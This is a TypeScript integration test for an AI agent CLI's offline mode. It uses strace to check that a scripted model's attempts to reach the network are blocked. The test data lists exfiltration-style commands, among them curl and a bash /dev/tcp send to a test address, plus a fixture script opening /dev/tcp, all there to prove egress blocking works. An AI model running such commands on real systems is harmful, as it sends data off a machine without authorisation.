// A whole run with the offline switch on, watched by the system: no socket leads anywhere but to the model on this machine.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, it } from 'mocha';
import type { Answer, ScriptedRequest } from '../support/scripted-model/script.ts';
import { type ScriptedModel, startScriptedModel } from '../support/scripted-model/server.ts';
import { type Cli, createCli } from './support/cli.ts';

/** What a model tries that wants something to leave, and one harmless thing at the end. */
const TRIES: readonly (readonly [name: string, input: Record<string, unknown>])[] = [
  ['web_fetch', { url: 'https://example.com/?x=1' }],
  ['web_search', { query: 'secret' }],
  ['run_command', { command: 'curl -s http://192.0.2.1/' }],
  ['run_command', { command: 'bash -c "echo x > /dev/tcp/192.0.2.1/80"' }],
  ['run_command', { command: 'git clone https://example.com/x.git' }],
  ['run_command', { command: 'npm publish' }],
  ['run_command', { command: './send.sh' }],
];

const tries = ({ messages }: ScriptedRequest): Answer => {
  const done = messages.filter(({ role }) => role === 'tool').length;
  const [name, input] = TRIES[done] ?? [];
  if (name === undefined || input === undefined) return { text: 'Done.' };
  return { text: 'Next.', calls: [{ name, arguments: input }] };
};

describe('orquestra run --offline', function () {
  this.timeout(90_000);
  let cli: Cli;
  let model: ScriptedModel;
  before(async function () {
    if (process.platform !== 'linux' || !has('strace')) this.skip();
    cli = await createCli();
    model = await startScriptedModel({ script: tries });
    await cli.write({ 'send.sh': '#!/bin/sh\necho ran > ran.txt; exec 3<>/dev/tcp/192.0.2.1/80\n' });
    const settings = { searchProvider: 'searxng', searchUrl: 'https://search.example.com' };
    await writeFile(join(cli.home, 'settings.json'), JSON.stringify(settings));
  });
  after(async () => {
    await model?.close();
    await cli?.dispose();
  });

  /** Every address that any process of it connects or sends to. */
  async function watched(args: readonly string[], env: Record<string, string>) {
    const trace = join(cli.folder, 'trace.txt');
    const script = join(cli.folder, 'traced.sh');
    const calls = 'connect,sendto,sendmsg,sendmmsg';
    await writeFile(
      script,
      `#!/bin/sh\nexec strace -f -qq -o '${trace}' -e trace=${calls} '${process.execPath}' "$@"\n`,
      {
        mode: 0o755,
      },
    );
    const ended = await cli.run(args, { env, node: script });
    const lines = readFileSync(trace, 'utf8').split('\n');
    const places = lines.flatMap((line) => {
      const [, family] = /sa_family=(AF_\w+)/.exec(line) ?? [];
      const [, address] = /(?:inet_addr\("|inet_pton\(AF_INET6, ")([^"]+)/.exec(line) ?? [];
      return family === undefined || family === 'AF_UNIX' || family === 'AF_NETLINK' ? [] : [address ?? line];
    });
    return { ...ended, places: new Set(places) };
  }

  const run = (name: string) => ['run', '--cwd', cli.workspace, '--model', name, '--approve', 'all'];
  const port = () => new URL(model.url).port;

  it('reaches the model by the name of this machine and nobody else, whatever is tried and approved', async () => {
    const env = { OPENAI_BASE_URL: `http://localhost:${port()}/v1`, OLLAMA_HOST: 'http://ollama.example.com' };
    const ended = await watched([...run('openai/scripted'), '--offline', 'try'], env);
    assert.equal(ended.code, 3, `${ended.code} ${ended.signal}: ${ended.stderr}`);
    assert.deepEqual([...ended.places], ['127.0.0.1']);
    assert.match(
      ended.stderr,
      /^Offline: 0 bytes left this machine; \d+ requests? blocked, \d+ requests to a server on it$/m,
    );
    assert.throws(() => readFileSync(join(cli.workspace, 'ran.txt')), /ENOENT/);
  });

  it('refuses a model elsewhere, and says what to do', async () => {
    const env = { OPENAI_BASE_URL: 'https://models.example.com/v1', OPENAI_API_KEY: 'x', ORQUESTRA_OFFLINE: '1' };
    const ended = await watched([...run('openai/scripted'), 'hello'], env);
    assert.equal(ended.code, 1, ended.stderr);
    assert.match(ended.stderr, /models\.example\.com.*switched the network off \(orquestra\.policy\.offline\)/);
    assert.deepEqual(
      [...ended.places].filter((place) => place !== '127.0.0.1'),
      [],
    );
  });

  it('is watched by what sees a request that does leave this machine’s own address', async () => {
    const env = { OPENAI_BASE_URL: 'http://192.0.2.1:8080/v1', OPENAI_API_KEY: 'x' };
    const ended = await watched([...run('openai/scripted'), '--json', 'hello'], env);
    // Nobody answers there: what matters is that the watch has seen it.
    assert.ok(ended.places.has('192.0.2.1'), [...ended.places].join());
  });
});

function has(program: string): boolean {
  try {
    execFileSync('which', [program]);
    return true;
  } catch {
    return false;
  }
}
